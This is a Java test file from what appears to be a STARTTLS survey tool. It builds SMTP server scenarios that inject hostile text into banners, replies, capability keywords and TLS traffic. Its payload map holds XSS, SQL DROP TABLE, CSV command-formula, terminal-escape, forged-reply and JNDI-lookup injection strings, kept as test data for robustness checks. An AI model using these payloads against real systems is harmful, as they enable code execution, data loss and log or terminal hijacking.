package org.starttls.survey.engine.smtp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.starttls.survey.engine.model.EndpointOutcome.*;
import static org.starttls.survey.engine.smtp.Scenario.*;
import static org.starttls.survey.engine.smtp.Step.say;

import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.starttls.survey.engine.model.EndpointOutcome;
import org.starttls.survey.engine.model.Stage;
import org.starttls.survey.engine.smtp.Scenario.After;

/** Servers whose texts are meant for whoever reads the results: terminals, browsers, spreadsheets, databases, logs. */
final class HostileTextScenarios {
    private static final Map<String, String> TEXTS = new TreeMap<>(Map.of(
            "terminal escapes", "\33[2J\33]0;owned\7\33[31m",
            "HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "CSV formulas", "=cmd|'/c calc'!A1,\"+1+1\",@SUM(1)",
            "SQL", "'); DROP TABLE probe; --",
            "NULs", "\0a\0b\0",
            "bare carriage returns", "a\rS 250 forged\r250 STARTTLS\r",
            "bytes that are no UTF-8", "\377\376\200\300\257",
            "bidirectional overrides", "\342\200\256txet\342\200\254",
            "transcript lines", "\\nS 250 forged\\x0a",
            "log lookups", "${jndi:ldap://example.test/a} %n %s {0}"));

    private HostileTextScenarios() {}

    static Stream<Scenario> all() {
        return TEXTS.entrySet().stream().flatMap(text -> everywhere(text.getKey(), text.getValue()));
    }

    private static Stream<Scenario> everywhere(String kind, String text) {
        After connect = After.CONNECT;
        return Stream.of(
                connect.a(kind + " as no reply", NOT_SMTP, Stage.BANNER, say("x" + text), CLOSE),
                rejecting(connect, kind + " in its greeting", "554 " + text, BANNER_REJECTED, Stage.BANNER),
                rejecting(After.EHLO, kind + " in its deferral of EHLO", "451 " + text, EHLO_DEFERRED, Stage.EHLO),
                rejecting(After.STARTTLS, kind + " in its refusal", "502 " + text, STARTTLS_REFUSED, Stage.STARTTLS),
                connect.a(kind + " in its banner", STARTTLS_NOT_OFFERED, Stage.EHLO, say("220 " + text), HEAR)
                        .then(WELCOME, HEAR, CLOSE)
                        .showing(probe -> assertThat(probe.banner()).isPresent()),
                After.EHLO
                        .a(kind + " in its keywords", STARTTLS_NOT_OFFERED, Stage.EHLO, say("250-mx\r\n250 K" + text))
                        .then(HEAR, CLOSE)
                        .showing(probe ->
                                assertThat(probe.capabilities().orElseThrow()).hasSize(1)),
                After.CLIENT_HELLO.a(kind + " for TLS", NOT_TLS, Stage.HANDSHAKE, say("?" + text), STALL),
                tls(TlsScenarios.TLS13, kind + " inside TLS", POST_HANDSHAKE_FAILED, Stage.TLS, say("550 " + text))
                        .then(HEAR, CLOSE));
    }

    private static Scenario rejecting(After after, String what, String reply, EndpointOutcome outcome, Stage stage) {
        return after.a(what, outcome, stage, say(reply), HEAR, CLOSE)
                .showing(probe -> assertThat(probe.reply()).isPresent());
    }
}
